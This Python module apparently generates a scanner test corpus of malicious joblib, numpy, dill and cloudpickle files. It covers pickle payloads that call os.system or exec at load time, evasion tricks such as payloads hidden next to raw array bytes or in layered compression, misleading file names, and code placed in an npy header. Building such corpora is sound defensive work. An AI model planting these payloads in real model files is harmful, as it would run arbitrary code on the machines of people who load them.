"""joblib, npy, npz, dill and cloudpickle files."""

import bz2
import struct
import zlib

from malicious_files import Entry, gz, lz4, lzma_alone, npy, xz, zipped
from malicious_ops import (
    CODE_FIELDS, MARKER, MARSHALLED, NOWHERE, PAYLOAD4, PYTHON, SHELL, Build, Call, New, attr, body, call, dump, g, system,
)

ARRAY = struct.pack("<8d", *[n / 4 for n in range(8)])
EVIL = dump(system(), 4)


def wrapper(descr="f8", shape=(8,), pad=True):
    """The opcodes of joblib's NumpyArrayWrapper; raw array bytes follow BUILD in the stream."""
    dtype = Build(call("numpy:dtype", descr, False, True), (3, "<", None, None, None, -1, -1, 0))
    tree = Build(New(g("joblib.numpy_pickle:NumpyArrayWrapper")), {
        "subclass": g("numpy:ndarray"), "shape": shape, "order": "C", "dtype": dtype, "allow_mmap": not pad})
    return body(tree, 4, memo=False)


def joblib_stream(payload=PAYLOAD4, raw=ARRAY, before=False, arrays=1, descr="f8"):
    """A dict of arrays whose bytes stand between opcodes, and a payload before or after them."""
    out = b"}("
    if before:
        out += body("hook", 4, memo=False) + payload
    for number in range(arrays):
        out += body("array%d" % number, 4, memo=False) + wrapper(descr) + raw
    if not before:
        out += body("hook", 4, memo=False) + payload
    return b"\x80\x04" + out + b"u."


def build_joblib(corpus):
    def add(slug, name, data, technique, advisory=None, note=""):
        corpus.add("joblib", ("" if advisory else "joblib-") + slug, name, data, technique, advisory, note)

    add("after-raw-array", "model.joblib", joblib_stream(), "payload after raw array bytes", "modelscan-pr-356")
    add("after-raw-array-pkl", "model.pkl", joblib_stream(arrays=3), "payload after raw array bytes", "modelscan-pr-356",
        "three arrays")
    add("before-raw-array", "model.joblib", joblib_stream(before=True), "payload before raw array bytes")
    add("stop-bytes-in-array", "model.joblib", joblib_stream(raw=b"." * 64), "payload after raw array bytes",
        note="array bytes look like STOP")
    add("invalid-opcodes-in-array", "model.joblib", joblib_stream(raw=b"\xff" * 64), "payload after raw array bytes",
        note="array bytes are no opcodes")
    add("huge-length-in-array", "model.joblib", joblib_stream(raw=b"\x8e" + b"\xff" * 63), "payload after raw array bytes",
        note="array bytes look like BINBYTES8")
    add("array-is-decoy-pickle", "model.joblib", joblib_stream(raw=dump({"a": 1}, 2).ljust(64, b"\0")),
        "payload after raw array bytes", note="array bytes hold a whole benign pickle")
    add("object-array", "model.joblib", joblib_stream(payload=b"N", raw=EVIL, descr="O8"), "object array: nested pickle",
        "CVE-2024-34997", "object dtype, pickle where the bytes stand")
    add("old-ndarray-wrapper", "model.pkl", dump(Build(New(g("joblib.numpy_pickle_compat:NDArrayWrapper")), {
        "filename": "/nonexistent/CLEANBILL-INERT.npy", "subclass": g("numpy:ndarray"), "allow_mmap": False}), 2),
        "old joblib: file named in the pickle")
    add("zndarray-wrapper", "model.pkl", dump(Build(New(g("joblib.numpy_pickle_compat:ZNDArrayWrapper")), {
        "filename": "/nonexistent/CLEANBILL-INERT.z", "init_args": (g("os:system"), (1,), b"b"), "state": None}), 2),
        "old joblib: rebuild arguments")
    stream = joblib_stream()
    codecs = [("zlib", "z", zlib.compress(stream, 3)), ("gzip", "gz", gz(stream)), ("bz2", "bz2", bz2.compress(stream)),
              ("lzma", "lzma", lzma_alone(stream)), ("xz", "xz", xz(stream)), ("lz4", "lz4", lz4(stream))]
    for name, suffix, data in codecs:
        add(f"{name}", "model.joblib", data, f"compressed joblib: {name}", "modelscan-pr-345")
        add(f"{name}-suffix", f"model.pkl.{suffix}", data, f"compressed joblib: {name}", note="extension of the codec")
    add("old-zfile", "model.pkl", b"ZF" + b"0x%-17x" % len(EVIL) + zlib.compress(EVIL), "old joblib ZF header")
    add("zlib-level-0", "model.joblib", zlib.compress(EVIL, 0), "compressed joblib: stored zlib")
    add("zlib-twice", "model.joblib", zlib.compress(zlib.compress(EVIL, 9), 9), "compressed twice")
    add("gzip-members", "model.joblib", gz(dump({}, 4)[:6]) + gz(dump({}, 4)[6:]) + gz(EVIL), "several gzip members",
        note="payload in the third member")
    add("gzip-truncated", "model.joblib", gz(EVIL + b"N" * 4000)[:-8], "gzip without trailer", note="payload comes first")
    add("bz2-streams", "model.joblib", bz2.compress(dump({}, 4)[:5]) + bz2.compress(dump({}, 4)[5:] + EVIL), "several bz2 streams")
    add("xz-padded", "model.joblib", xz(EVIL) + b"\0" * 16, "xz with padding")
    add("unlisted-loky", "model.joblib", joblib_stream(payload=body(call(
        "joblib.externals.loky.backend.fork_exec:fork_exec", ["echo", MARKER], []), 4, memo=False)), "unlisted callable")
    add("estimator-hook", "pipeline.joblib", dump(Build(New(g("sklearn.preprocessing._function_transformer:FunctionTransformer")), {
        "func": g("os:system"), "inverse_func": None, "validate": False, "_sklearn_version": "1.5.0"}), 4),
        "estimator that calls on use", note="runs at transform, not at load")
    add("pipeline-payload", "pipeline.joblib", dump(Build(New(g("sklearn.pipeline:Pipeline")), {
        "steps": [("scale", Build(New(g("sklearn.preprocessing._data:StandardScaler")), {"mean_": system()}))],
        "_sklearn_version": "1.5.0"}), 4), "payload in a nested estimator state")


def build_numpy(corpus):
    def add(slug, name, data, technique, advisory=None, note=""):
        corpus.add("numpy", ("" if advisory else "numpy-") + slug, name, data, technique, advisory, note)

    reconstruct = call("numpy.core.multiarray:_reconstruct", g("numpy:ndarray"), (0,), b"b")
    array = Build(reconstruct, (1, (1,), call("numpy:dtype", "O8", False, True), False, [system()]))
    add("object-npy", "embeddings.npy", npy(EVIL), "npy object array", "CVE-2019-6446")
    add("object-npy-array", "labels.npy", npy(dump(array, 3)), "npy object array", "CVE-2019-6446", "call inside a real object array")
    add("object-npy-v2", "data.npy", npy(EVIL, version=2), "npy object array", note="header version 2")
    add("object-npy-v3", "data.npy", npy(EVIL, version=3), "npy object array", note="header version 3")
    add("structured-object", "table.npy", npy(EVIL, header="{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, "
                                              "'shape': (1,), }"), "object field in a structured type")
    add("npy-upper", "DATA.NPY", npy(EVIL), "npy object array", note="upper case extension")
    add("npy-named-bin", "weights.bin", npy(EVIL), "npy under another name")
    add("pickle-named-npy", "embeddings.npy", EVIL, "pickle named npy", note="numpy.load unpickles what is not npy")
    add("protocol-0-named-npy", "embeddings.npy", dump(system(), 0), "pickle named npy")
    header = "{'descr': __import__('os').system('echo CLEANBILL-INERT'), 'fortran_order': False, 'shape': (1,), }"
    add("header-code", "data.npy", npy(b"\0" * 8, header=header), "code in the npy header", note="old readers used eval")
    add("header-huge", "data.npy", npy(b"", header="{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }" + " " * 200000,
                                       version=2), "npy header abuse", note="header of 200 KB")
    add("header-nested", "data.npy", npy(b"", header="(" * 5000 + ")" * 5000), "npy header abuse", note="deep brackets")
    add("shape-overflow", "data.npy", npy(b"\0" * 16, descr="<f8", shape="(4611686018427387904, 8)"), "npy header abuse",
        note="shape product overflows")
    add("second-array-object", "data.npy", npy(ARRAY, descr="<f8", shape="(8,)") + npy(EVIL), "second array after the first")
    add("npz-object", "arrays.npz", zipped([Entry("x.npy", npy(ARRAY, descr="<f8", shape="(8,)")), Entry("y.npy", npy(EVIL))]),
        "npz object array")
    add("npz-deflated", "arrays.npz", zipped([Entry("y.npy", npy(EVIL), method=8)]), "npz object array")
    add("npz-pickle-member", "arrays.npz", zipped([Entry("y.npy", EVIL)]), "npz pickle member")
    add("npz-no-extension-member", "arrays.npz", zipped([Entry("y", npy(EVIL))]), "npz member without extension")
    add("npz-named-npy", "arrays.npy", zipped([Entry("y.npy", npy(EVIL))]), "npz named npy")


def build_dill(corpus):
    def add(slug, tree, technique, name="model.pkl", proto=4, note=""):
        corpus.add("dill", "dill-" + slug, name, dump(tree, proto), technique, note=note)

    code = call("dill._dill:_create_code", *CODE_FIELDS)
    make = call("dill._dill:_create_function", code, {"print": g("builtins:print")}, "f", None, None)
    add("function-called", Call(make), "dill function called at load", "model.dill")
    add("function-main", Call(call("dill._dill:_create_function", call("dill._dill:_load_type", "CodeType"), {}, "f")),
        "dill type by name", "session.pkl")
    add("load-type", Call(call("dill._dill:_load_type", "FunctionType"), call("marshal:loads", MARSHALLED), {}), "dill type by name")
    add("import-module", call(attr(call("dill._dill:_import_module", "os"), "system"), SHELL), "dill import by name")
    add("eval-repr", call("dill._dill:_eval_repr", PYTHON), "dill eval helper")
    add("get-attr", Call(call("dill._dill:_get_attr", call("dill._dill:_import_module", "os"), "system"), SHELL), "dill getattr helper")
    add("filehandle", call("dill._dill:_create_filehandle", NOWHERE, "w", 0, False, None, True, MARKER), "dill opens a file")
    add("exec-namespace", Build(g("__main__:__dict__"), {"x": call("builtins:exec", PYTHON)}), "session file", "session.dill")
    add("thread", call("dill._dill:_create_lock", system()), "argument of a helper")
    cloud = call("cloudpickle.cloudpickle:_make_function", call("cloudpickle.cloudpickle:_builtin_type", "CodeType"), {}, "f")
    add("cloud-make-function", Call(cloud), "cloudpickle function", "policy.pkl")
    full = call("cloudpickle.cloudpickle:_make_function", Call(call(
        "cloudpickle.cloudpickle:_builtin_type", "CodeType"), *CODE_FIELDS), {
            "__package__": None, "__name__": "__main__", "print": g("builtins:print")}, "f", None, None)
    add("cloud-function-called", Call(full), "cloudpickle function called at load", "policy.pkl", 5)
    add("cloud-function-setstate", Build(full, ({"__name__": "f"}, {"__globals__": {"x": system()}})), "cloudpickle state", proto=5)
    add("cloud-subimport", call(attr(call("cloudpickle.cloudpickle:subimport", "os"), "system"), SHELL), "cloudpickle import")
    add("cloud-skeleton-class", call("cloudpickle.cloudpickle:_make_skeleton_class", g("builtins:type"), "T", (
        g("subprocess:Popen"),), {"__init__": g("os:system")}, "0", None), "cloudpickle class")
    add("cloud-dynamic-submodule", call("cloudpickle.cloudpickle:dynamic_subimport", "m", {"x": system()}), "cloudpickle module")
    add("cloud-old-fill-function", call("cloudpickle.cloudpickle:_fill_function", full, {"globals": {"x": system()}}),
        "old cloudpickle function")


def build(corpus):
    """Adds the groups `joblib`, `numpy` and `dill`."""
    build_joblib(corpus)
    build_numpy(corpus)
    build_dill(corpus)
